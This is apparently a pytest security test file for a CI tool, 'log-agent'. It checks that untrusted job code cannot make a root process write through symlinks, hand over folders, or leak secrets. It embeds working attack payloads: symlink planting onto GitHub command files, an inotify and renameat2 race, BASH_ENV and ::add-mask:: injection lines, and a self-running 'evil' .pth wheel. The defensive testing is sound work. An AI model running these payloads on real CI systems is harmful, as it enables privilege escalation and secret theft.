"""Foreign code can't make root write into, or give away, what isn't the job's.

The folders and files that are swapped here are those in which an earlier version of log-agent
followed links. Every folder of the scratch folder that may be written to is tried, so that another
layout doesn't keep an attack from what it is about.
"""

from pathlib import Path

import pytest

from doubles.package_index import make_wheel
from tests.container.attacks import COMMAND_FILES, PRELUDE, REGISTER, REQUIREMENTS, agent, package
from tests.container.listener import HOST_NETWORK, listening
from tests.container.victim import Victim

pytestmark = pytest.mark.exhaustive

# Puts links where the control process may write next.
PLANT_LINKS = """
def plant(links):
    for folder, _, _ in os.walk("/var/tmp"):
        for name, target in links.items():
            path = pathlib.Path(folder, name)
            try:
                path.unlink(missing_ok=True)
                path.symlink_to(target)
            except OSError:
                continue
            note("planted", path)
"""


def backend_that_plants(links: dict[str, str]) -> dict[str, str]:
    return package(f"{PLANT_LINKS}\nplant({links!r})\n")


def test_requirement_files_are_not_written_through_links(victim: Victim) -> None:
    links = {
        "pins.txt": f"{COMMAND_FILES}/set_env",
        "input.txt": f"{COMMAND_FILES}/add_path",
        "uv-lock-0.txt": f"{COMMAND_FILES}/save_state",
        "uv-lock-1.txt": f"{COMMAND_FILES}/save_state",
    }
    # Without pandas, which log-agent adds: it resolves again.
    files = agent(requirements="mlflow-skinny==3.17.2\n./pkg\n")
    victim.check_out({**files, **backend_that_plants(links)})

    victim.run()

    assert victim.noted()
    assert victim.gains() == []


TEMPLATES = "/opt/log-agent/lib/python3.12/site-packages/entrypoint/report/templates"


@pytest.mark.parametrize(
    "target",
    [f"{COMMAND_FILES}/set_env", f"{TEMPLATES}/problems.md.j2", "/proc/self/fd/1"],
    ids=["GITHUB_ENV", "template", "log"],
)
def test_hashes_are_not_written_through_links(victim: Victim, target: str) -> None:
    description = '"""\n::add-mask::owned --hash\nBASH_ENV=/github/workspace/agent/x --hash\n"""'
    project = (
        f'[project]\nname = "pkg"\nversion = "1"\ndescription = {description}\n'
        'dependencies = ["mlflow-skinny==3.17.2", "pandas"]\n'
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    )
    files = {
        "agent/agent.py": agent()["agent/agent.py"],
        "agent/pyproject.toml": project,
        "agent/backend.py": backend_that_plants({"hashes.txt": target})["agent/pkg/backend.py"],
    }
    victim.check_out(files)

    step = victim.run()

    assert victim.noted()
    assert step.status in (0, 1)
    assert victim.gains() == []
    assert "::add-mask::owned" not in step.log


# At the start of the interpreter: a folder that root gives away is swapped with a link while root
# walks through it, which takes it some time, for there is much in it.
SWAP_WHILE_IT_IS_GIVEN = """
libc = ctypes.CDLL(None, use_errno=True)
IN_OPEN, AT_FDCWD, RENAME_EXCHANGE = 0x20, -100, 2

def swap_when_opened(folder):
    notices = libc.inotify_init1(0)
    libc.inotify_add_watch(notices, str(folder).encode(), IN_OPEN)
    os.read(notices, 4096)
    for number in range(100):
        pair = [os.fsencode(folder / f"folder{number}"), os.fsencode(folder.parent / "link")]
        libc.renameat2(AT_FDCWD, pair[0], AT_FDCWD, pair[1], RENAME_EXCHANGE)
        os.rename(folder.parent / "link", folder.parent / f"swapped{time.monotonic_ns()}")
        os.symlink("TARGET", folder.parent / "link")
        time.sleep(0.0005)
    note("swapped")
    for name in ("set_env", "add_path"):
        for _ in range(500):
            try:
                pathlib.Path("TARGET", name).write_text("BASH_ENV=/github/workspace/agent/x\\n")
                note(f"wrote {name}")
                break
            except OSError:
                time.sleep(0.01)

def attack():
    for name in ("verdicts", "artifacts", "empty"):
        folder = pathlib.Path(os.getcwd(), name)
        try:
            folder.mkdir()
        except OSError:
            continue
        for number in range(100):
            (folder / f"folder{number}").mkdir()
        for number in range(4000):
            (folder / f"file{number}").touch()
        if name == "verdicts":
            (folder.parent / "link").symlink_to("TARGET")
            daemon(lambda folder=folder: swap_when_opened(folder))
    note("ready")

if "worker" in str(sys.orig_argv):
    attack()
""".replace("TARGET", COMMAND_FILES)


def test_folders_are_not_given_away_through_links(victim: Victim, tmp_path: Path) -> None:
    hook = PRELUDE + SWAP_WHILE_IT_IS_GIVEN
    files = {"evil.pth": "import evil\n", "evil.py": hook}
    wheel = make_wheel(tmp_path / "index", "evil", files=files)

    with listening(wheel.parent) as index:
        dependency = f"evil @ {index.at('127.0.0.1')}/{wheel.name}\n"
        victim.check_out(agent(requirements=REQUIREMENTS + dependency))
        # It waits for MLflow before it gives folders away, so that the attack is ready by then.
        victim.run(REGISTER, options=[HOST_NETWORK])

    assert "ready" in victim.noted()
    assert victim.gains() == []


# What the agent leaves in the place of its verdict; `os._exit` keeps the worker from writing one.
SWAP_VERDICTS = """
def swap():
    for folder in list(pathlib.Path("/var/tmp").rglob("verdicts")):
        try:
            folder.rename(folder.with_name("moved"))
            folder.symlink_to("/root/vault")
        except OSError:
            continue
    os._exit(0)

note("began")
swap()
"""
SECRET = "of-root-only-4711"


def test_a_verdict_is_not_read_through_a_link(victim: Victim, tmp_path: Path) -> None:
    vault = tmp_path / "vault"
    vault.mkdir(mode=0o700)
    (vault / "build.json").write_text(f'{{"password": "{SECRET}"}}')
    (vault / "build.json").chmod(0o600)
    victim.check_out(agent(SWAP_VERDICTS))

    step = victim.run(options=[f"--volume={vault}:/root/vault"])

    assert "began" in victim.noted()
    assert step.status == 1
    assert SECRET.encode() not in victim.told(step)


VERDICTS = {
    "a link": 'os.symlink("/root/secret.json", verdict)',
    "a pipe": "os.mkfifo(verdict)",
    "nested": 'open(verdict, "w").write("[" * 100_000)',
}


@pytest.mark.parametrize("kind", VERDICTS)
def test_a_verdict_is_a_file_that_can_be_read(victim: Victim, tmp_path: Path, kind: str) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text(f'{{"password": "{SECRET}"}}')
    secret.chmod(0o600)
    attack = f"""
note("began")
for folder in pathlib.Path("/var/tmp").rglob("verdicts"):
    verdict = folder / "build.json"
    attempt(lambda: {VERDICTS[kind]})
os._exit(0)
"""
    victim.check_out(agent(attack))

    step = victim.run(options=[f"--volume={secret}:/root/secret.json"])

    assert "began" in victim.noted()
    assert step.status == 1
    assert step.commands("error")
    assert "Traceback (most recent call last)" not in step.log
    assert SECRET.encode() not in victim.told(step)
